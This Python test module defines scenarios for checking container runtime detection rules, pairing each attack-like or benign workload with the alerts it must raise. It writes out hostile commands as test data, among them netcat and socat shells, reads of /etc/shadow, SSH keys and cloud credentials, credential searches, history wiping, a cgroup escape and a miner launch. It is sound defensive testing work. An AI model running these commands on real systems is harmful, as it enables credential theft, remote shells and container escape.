"""The scenario table: attack-like and benign workloads, and what they must raise.

Each scenario is data: a command (with placeholders), the rules of our default
ruleset it must raise, and the rules of Falco's upstream stable ruleset it should
raise. Commands run with the work directory as cwd and HOME, and with bin/ (fake
tools: nc, socat, apt-get, xmrig, httpd) first on PATH.

Placeholders: {py} this Python, {w} the workloads/ directory, {workdir}.
"""
from __future__ import annotations

from dataclasses import dataclass, field
from pathlib import Path
from typing import Tuple

HERE = Path(__file__).resolve().parent
BIN_DIR = HERE / "bin"
WORKLOADS_DIR = HERE / "workloads"

#: The container context every scenario runs with (set explicitly: the tests do not
#: need to run in a container for container-only rules to apply).
CONTAINER_ID = "0badc0ffee42"
CONTAINER_IMAGE = "registry.example.com/scenario/app:1.0"

#: Priorities that a benign workload must never raise.
LOUD_PRIORITIES = ("Emergency", "Alert", "Critical", "Error", "Warning")

ATTACK_SCRIPT = "{w}/attack.py"
ATTACK = "{py} " + ATTACK_SCRIPT


@dataclass(frozen=True)
class Scenario:
    name: str
    command: Tuple[str, ...]
    #: rules of rules/ that must fire (empty for benign workloads)
    expect: Tuple[str, ...] = ()
    #: rules of the upstream falco_rules.yaml that must fire (run as root only: several
    #: upstream rules look at successful calls or at capabilities)
    upstream: Tuple[str, ...] = ()
    benign: bool = False
    #: also run the agent as an unprivileged user (the rule must fire on the attempt)
    nonroot: bool = True
    env: Tuple[Tuple[str, str], ...] = field(default=())
    #: programs that must be installed (the scenario is skipped otherwise)
    requires: Tuple[str, ...] = ()


def sh(script: str) -> Tuple[str, ...]:
    return ("sh", "-c", script)


def py(args: str) -> Tuple[str, ...]:
    return tuple(args.split())


SCENARIOS: Tuple[Scenario, ...] = (
    # --- process ----------------------------------------------------------------------
    # `docker exec -it`: the runtime (runc) starts a shell on a terminal
    Scenario("terminal-shell", sh(f'ln -s "$PYTHON" ./runc && ./runc {ATTACK_SCRIPT} pty-shell'),
             expect=("Shell with terminal in container",),
             upstream=("Terminal shell in container",)),
    Scenario("web-server-spawns-shell", ("httpd",),
             expect=("Shell spawned by web server",),
             upstream=("Run shell untrusted",)),
    Scenario("package-manager", sh("apt-get install -y curl"),
             expect=("Package manager run in container",)),
    Scenario("drift-dropped-binary", sh("cp /bin/true ./dropped && ./dropped"),
             expect=("Drifted executable run in container",),
             upstream=("Drop and execute new binary in container",)),
    Scenario("fileless-memfd", py(f"{ATTACK} memfd-exec"),
             expect=("Fileless execution from memory",),
             upstream=("Fileless execution via memfd_create",)),
    # a payload that is gone before anyone can look at /proc: only the exec path is left
    Scenario("fileless-memfd-short-lived", py(f"{ATTACK} memfd-exec /bin/true"),
             expect=("Fileless execution from memory",)),
    Scenario("exec-from-dev-shm",
             sh('f=/dev/shm/wa-scenario-$$; cp /bin/true "$f" && "$f"; rm -f "$f"'),
             expect=("Execution from temporary directory",),
             upstream=("Execution from /dev/shm",)),
    Scenario("netcat-exec", sh("nc -e /bin/sh 127.0.0.1 4444"),
             expect=("Netcat or socat command execution",),
             upstream=("Netcat Remote Code Execution in Container",)),
    Scenario("socat-exec", ("socat", "TCP:127.0.0.1:4444", "EXEC:/bin/sh"),
             expect=("Netcat or socat command execution",)),
    Scenario("crypto-miner", ("xmrig", "-o", "stratum+tcp://pool.example.org:3333", "-u", "wallet"),
             expect=("Crypto miner started",)),
    Scenario("credential-search",
             sh('grep -rl "BEGIN RSA PRIVATE KEY" . ; find . -name id_rsa; '
                'grep -ri aws_secret_access_key . ; true'),
             expect=("Credential or private key search",),
             upstream=("Search Private Keys or Passwords", "Find AWS Credentials")),
    # --- files ------------------------------------------------------------------------
    Scenario("shadow-read", sh("cat /etc/shadow >/dev/null"),
             expect=("Read of password or sudoers file",),
             upstream=("Read sensitive file untrusted",)),
    Scenario("ssh-private-key-read",
             sh('mkdir -p .ssh && printf "key\\n" > .ssh/id_rsa && cat .ssh/id_rsa >/dev/null'),
             expect=("Read of SSH private key",)),
    Scenario("cloud-credentials-read",
             sh('mkdir -p .aws && printf "[default]\\n" > .aws/credentials '
                '&& cat .aws/credentials >/dev/null'),
             expect=("Read of cloud credentials",)),
    Scenario("write-below-bin", py(f"{ATTACK} write-new /usr/local/bin"),
             expect=("Write below binary directory",)),
    Scenario("write-below-etc", py(f"{ATTACK} write-new /etc"),
             expect=("File written below /etc",)),
    Scenario("log-clearing", py(f"{ATTACK} write-new /var/log truncate"),
             expect=("Log file cleared",),
             upstream=("Clear Log Activities",)),
    Scenario("shell-history-tampering",
             sh('printf "ls\\n" > .bash_history; : > .bash_history; rm -f .bash_history; '
                'ln -s /dev/null .bash_history'),
             expect=("Shell history tampered",)),
    Scenario("links-to-sensitive-files",
             sh("ln -s /etc/shadow shadow-symlink; ln /etc/shadow shadow-hardlink; true"),
             expect=("Link to sensitive file created",),
             upstream=("Create Symlink Over Sensitive Files", "Create Hardlink Over Sensitive Files")),
    Scenario("cgroup-release-agent", py(f"{ATTACK} release-agent {{workdir}}"),
             expect=("Cgroup release_agent written",),
             upstream=("Detect release_agent File Container Escapes",)),
    Scenario("setuid-bit", sh("cp /bin/true suidbin && chmod u+s suidbin"),
             expect=("Setuid or setgid bit set",)),
    # --- network ----------------------------------------------------------------------
    Scenario("reverse-shell", py(f"{ATTACK} reverse-shell"),
             expect=("Standard stream redirected to network socket",),
             upstream=("Redirect STDOUT/STDIN to Network Connection in Container",)),
    Scenario("packet-socket", py(f"{ATTACK} packet-socket"),
             expect=("Raw or packet socket opened in container",),
             upstream=("Packet socket created in container",)),
    # UDP connect() only records the destination: no packet leaves the machine.
    Scenario("cloud-metadata", py(f"{ATTACK} udp-connect 169.254.169.254 80"),
             expect=("Cloud metadata service contacted from container",)),
    Scenario("mining-pool-port", py(f"{ATTACK} udp-connect 198.51.100.7 3333"),
             expect=("Connection to crypto mining pool port",)),
    # --- kernel, privileges, isolation ------------------------------------------------
    Scenario("ptrace-attach", py(f"{ATTACK} ptrace-attach"),
             expect=("Process attached with ptrace",),
             upstream=("PTRACE attached to process",)),
    Scenario("ptrace-traceme", py(f"{ATTACK} ptrace-traceme"),
             expect=("Anti-debugging with PTRACE_TRACEME",),
             upstream=("PTRACE anti-debug attempt",)),
    Scenario("kernel-module", py(f"{ATTACK} kernel-module"),
             expect=("Kernel module load attempted",),
             upstream=("Linux Kernel Module Injection Detected",)),
    Scenario("unshare", py(f"{ATTACK} unshare"),
             expect=("Namespace changed in container",)),
    Scenario("setns", py(f"{ATTACK} setns"),
             expect=("Namespace changed in container",)),
    Scenario("mount-host-disk", py(f"{ATTACK} mount {{workdir}}/mnt"),
             expect=("Mount attempted in container",)),
    # --- benign workloads: nothing of WARNING or above --------------------------------
    Scenario("benign-http-server", py("{py} {w}/http_serve_fetch.py site"), benign=True),
    Scenario("benign-python-webapp", py("{py} {w}/webapp.py data"), benign=True),
    Scenario("benign-entrypoint", ("{w}/entrypoint.sh",), benign=True),
    Scenario("benign-c-build", ("{w}/build.sh",), benign=True, requires=("gcc",)),
    Scenario("benign-nginx", ("{w}/nginx_serve.sh",), benign=True, requires=("nginx",)),
)

BY_NAME = {s.name: s for s in SCENARIOS}
